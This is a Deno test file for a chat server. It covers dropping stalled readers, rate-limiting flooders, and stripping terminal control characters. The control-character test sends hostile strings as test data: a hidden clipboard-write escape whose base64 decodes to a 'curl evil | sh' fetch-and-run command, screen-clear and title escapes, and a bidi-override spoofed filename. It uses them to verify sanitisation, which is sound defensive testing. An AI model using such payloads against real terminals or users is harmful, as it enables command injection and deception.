import { assert, assertEquals, assertMatch } from "./assert.ts";
import { ServerProcess } from "./util/program.ts";
import { RawPeer } from "./util/raw_peer.ts";
import type { ServerFrame } from "../lib/shared/protocol.ts";

/** The server's resident memory, from /proc, in MB. */
async function rssMb(pid: number): Promise<number> {
  const status = await Deno.readTextFile(`/proc/${pid}/status`);
  return Number(/VmRSS:\s+(\d+) kB/.exec(status)![1]) / 1024;
}

/** The stated bound on the server's memory in the stalled-reader test. */
const RSS_BOUND_MB = 160;

Deno.test("a client that stops reading is dropped; 20 others chatting get everything; memory stays bounded", async () => {
  await using server = await ServerProcess.start(
    [
      "--rate",
      "0",
      "--max-queue",
      "65536",
      "--history",
      "0",
      "--max-per-address",
      "100",
    ],
  );
  // The stalled client says hello and never reads another byte.
  using stalled = await Deno.connect({
    hostname: "127.0.0.1",
    port: server.port,
  });
  await stalled.write(
    new TextEncoder().encode('{"type":"hello","v":1,"nick":"stalled"}\n'),
  );
  await server.stderr.waitFor("nick=stalled mode=native");
  await using connected = new AsyncDisposableStack();
  const chatters = await Promise.all(
    Array.from(
      { length: 20 },
      async (_, i) => connected.use(await RawPeer.native(server.port, `c${i}`)),
    ),
  );
  const text = (i: number, n: number) =>
    `c${i} message ${n} ${"x".repeat(1900)}`;
  // Everyone chats at once, each sending its next message when the last is
  // acked: 20 × 250 messages of 2 KB, far more than the kernel's socket
  // buffers (a few MB) and the 64 KB queue can hold for the stalled one.
  const perChatter = 250;
  await Promise.all(chatters.map(async (peer, i) => {
    for (let n = 0; n < perChatter; n++) {
      await peer.send({ type: "msg", id: `${n}`, text: text(i, n) });
      await peer.frame((f) => f.type === "ack" && f.id === `${n}`);
    }
  }));
  // The quit notice came before the last ack (one connection keeps its order).
  const quit =
    chatters[0]!.log.lines.find((l) =>
      l.includes('"event":"quit","nick":"stalled"')
    ) ?? "no quit notice";
  assertMatch(
    quit,
    /"reason":"too slow: more than 65536 bytes waiting to be read"/,
  );
  await server.stderr.waitFor(/disconnect .*nick=stalled reason="too slow/);
  const expected = (chatters.length - 1) * perChatter;
  for (const peer of chatters) {
    await peer.log.waitForCount(
      (line) => line.startsWith('{"type":"msg"'),
      expected,
    );
    assertEquals(
      peer.frames().filter((f) => f.type === "msg").length,
      expected,
      `${peer.log.label} got every message`,
    );
  }
  const rss = await rssMb(server.process.pid);
  assert(
    rss < RSS_BOUND_MB,
    `server RSS ${rss.toFixed(1)} MB is over the ${RSS_BOUND_MB} MB bound`,
  );
});

Deno.test("a flooding client is slowed, told, and finally dropped, while the others keep chatting", async () => {
  await using server = await ServerProcess.start([
    "--rate",
    "20",
    "--burst",
    "10",
  ]);
  await using flooder = await RawPeer.native(server.port, "flooder");
  await using ann = await RawPeer.native(server.port, "ann");
  await using bob = await RawPeer.native(server.port, "bob");
  // As fast as it can: far more than the socket buffers hold, never awaited as a whole.
  const flood = Array.from(
    { length: 20_000 },
    (_, n) => JSON.stringify({ type: "msg", id: `f${n}`, text: `flood ${n}` }),
  )
    .join("\n") + "\n";
  const flooding = flooder.write(flood).catch(() => {});
  const warning = await flooder.frame((f) =>
    f.type === "error" && f.code === "rate-limited"
  );
  assertMatch(
    (warning as Extract<ServerFrame, { type: "error" }>).message,
    /faster than 20 lines a second/,
  );
  for (let i = 0; i < 5; i++) {
    await ann.send({ type: "msg", id: `a${i}`, text: `still chatting ${i}` });
    await bob.frame((f) =>
      f.type === "msg" && f.text === `still chatting ${i}`
    );
  }
  const bye = await flooder.frame((f) => f.type === "bye", 20_000);
  assertMatch(
    (bye as Extract<ServerFrame, { type: "bye" }>).reason,
    /flooding: over 20 lines a second/,
  );
  await ann.frame(
    (f) => f.type === "event" && f.event === "quit" && f.nick === "flooder",
    20_000,
  );
  await flooder.close();
  await flooding;
  await ann.send({ type: "msg", id: "after", text: "quiet again" });
  await bob.frame((f) => f.type === "msg" && f.text === "quiet again");
});

/** Characters no terminal may see: C0 but newline, DEL, C1, bidi overrides and isolates. */
// deno-lint-ignore no-control-regex
const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
/** The same, escaped inside JSON strings. */
const ESCAPED_CONTROL =
  /\\u(00[01][0-9a-f]|007f|008[0-9a-f]|009[0-9a-f]|202[a-e]|206[6-9])/i;

Deno.test("escape sequences, C1 controls and bidi overrides never reach another client", async () => {
  await using server = await ServerProcess.start();
  await using evil = await RawPeer.native(server.port, "evil");
  await using native = await RawPeer.native(server.port, "victim");
  await using text = await RawPeer.connect(server.port, "text-victim");
  await text.write("/who\n");
  await text.log.waitFor("In #lobby (3)");
  const attacks = [
    "\x1b[2J\x1b[H you have been cleared",
    "\x1b]0;new title\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 clipboard",
    "\x9b31m C1 CSI \x85 NEL \x90 DCS",
    "file\u202egpj.exe \u2066isolate\u2069",
    "\x07 bell \x08 backspace \r carriage",
  ];
  for (const [i, attack] of attacks.entries()) {
    await evil.send({ type: "msg", id: `x${i}`, text: attack });
  }
  await evil.send({
    type: "msg",
    id: "away",
    text: "/away \x1b[5mblink\u202e",
  });
  await evil.send({ type: "msg", id: "nick", text: "/nick \x1b[31mred" });
  await evil.frame((f) => f.type === "error" && f.id === "nick");
  await evil.send({ type: "msg", id: "room", text: "/join \x1b[1mroom" });
  await evil.frame((f) => f.type === "error" && f.id === "room");
  await evil.send({ type: "msg", id: "end", text: "/quit \x1b[1mbye\x9b" });
  await native.frame((f) =>
    f.type === "event" && f.event === "quit" && f.nick === "evil"
  );
  await text.log.waitFor("you have been cleared");
  await text.log.waitFor("evil quit (bye)");
  for (const peer of [native, text]) {
    for (const line of peer.log.lines) {
      assert(
        !CONTROL.test(line),
        `control character in ${JSON.stringify(line)}`,
      );
      assert(
        !ESCAPED_CONTROL.test(line),
        `escaped control character in ${line}`,
      );
    }
  }
  // Every attack arrived, cleaned, rather than being dropped.
  assertEquals(
    native.frames().filter((f) => f.type === "msg").length,
    attacks.length,
  );
});
